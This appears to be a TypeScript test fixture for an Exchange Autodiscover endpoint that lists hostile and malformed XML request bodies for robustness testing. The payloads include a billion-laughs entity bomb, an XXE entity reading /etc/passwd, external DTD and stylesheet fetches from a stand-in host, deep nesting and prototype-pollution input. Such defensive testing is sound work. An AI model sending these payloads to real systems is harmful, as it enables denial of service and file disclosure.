// XML bodies an attacker or a broken client may send: entity bombs, external entities, deep nesting,
// malformed and truncated documents. Every one must get a clear error, never a crash or a hang.

const AUTODISCOVER_NS = 'http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006'
const OUTLOOK_SCHEMA = 'http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a'

/** A well-formed Autodiscover POX request (CLIENTS.md §2), with the address escaped or raw as given. */
export function autodiscoverRequest(address: string, prefix = ''): string {
  const p = prefix === '' ? '' : `${prefix}:`
  const ns = prefix === '' ? 'xmlns' : `xmlns:${prefix}`
  return `<?xml version="1.0" encoding="utf-8"?><${p}Autodiscover ${ns}="${AUTODISCOVER_NS}"><${p}Request><${p}EMailAddress>${address}</${p}EMailAddress><${p}AcceptableResponseSchema>${OUTLOOK_SCHEMA}</${p}AcceptableResponseSchema></${p}Request></${p}Autodiscover>`
}

const laughs = [
  '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">',
  ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`),
  ']><Autodiscover><Request><EMailAddress>&lol9;</EMailAddress></Request></Autodiscover>',
].join('')

export const HOSTILE_XML: readonly string[] = [
  laughs,
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><Autodiscover><Request><EMailAddress>&x;</EMailAddress></Request></Autodiscover>',
  '<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://192.0.2.1/evil.dtd"><Autodiscover/>',
  '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://192.0.2.1/x">%p;]><a/>',
  `${'<a>'.repeat(1200)}${'</a>'.repeat(1200)}`,
  `<Autodiscover>${'<Request>'.repeat(200)}<EMailAddress>a@test.example</EMailAddress>${'</Request>'.repeat(200)}</Autodiscover>`,
  '<Autodiscover><Request><EMailAddress>a@test.example</Request></Autodiscover>',
  '<Autodiscover><Request><EMailAddress>a@test.example</EMailAddress>',
  '<Autodiscover><Request><EMailAddress><![CDATA[a@test.example]]></EMailAddress></Request></Autodiscover>',
  '<Autodiscover><Request><EMailAddress>a@test.example</EMailAddress><EMailAddress>b@test.example</EMailAddress></Request></Autodiscover>',
  '<Autodiscover><Request><EMailAddress><x>a@test.example</x></EMailAddress></Request></Autodiscover>',
  '<Autodiscover><Request><EMailAddress></EMailAddress></Request></Autodiscover>',
  '<Autodiscover><Request><EMailAddress>&#0;@test.example</EMailAddress></Request></Autodiscover>',
  '<Autodiscover><Request><EMailAddress>&unknown;@test.example</EMailAddress></Request></Autodiscover>',
  '<Autodiscover><__proto__><polluted>1</polluted></__proto__><constructor><prototype>1</prototype></constructor></Autodiscover>',
  '<Autodiscover><Request><EMailAddress a="1" a="2">a@test.example</EMailAddress></Request></Autodiscover>',
  `<Autodiscover ${Array.from({ length: 300 }, (_, i) => `a${i}="${i}"`).join(' ')}/>`,
  '<?xml-stylesheet href="http://192.0.2.1/x.xsl"?><Autodiscover/>',
  '<?xml version="1.0" encoding="UTF-16"?><Autodiscover/>',
  '\ufeff<?xml version="1.0"?><Autodiscover/>',
  '   <?xml version="1.0"?><Autodiscover/>',
  '<a:Autodiscover xmlns:a="urn:x"><a:Request><b:EMailAddress>a@test.example</b:EMailAddress></a:Request></a:Autodiscover>',
  '<Autodiscover><Request><EMailAddress>a@test.example</EMailAddress></Request></Autodiscover><Second/>',
  '<Autodiscover>\u0000\u0001\u0002</Autodiscover>',
  '<',
  '<>',
  '</Autodiscover>',
  'not xml at all',
  '',
]
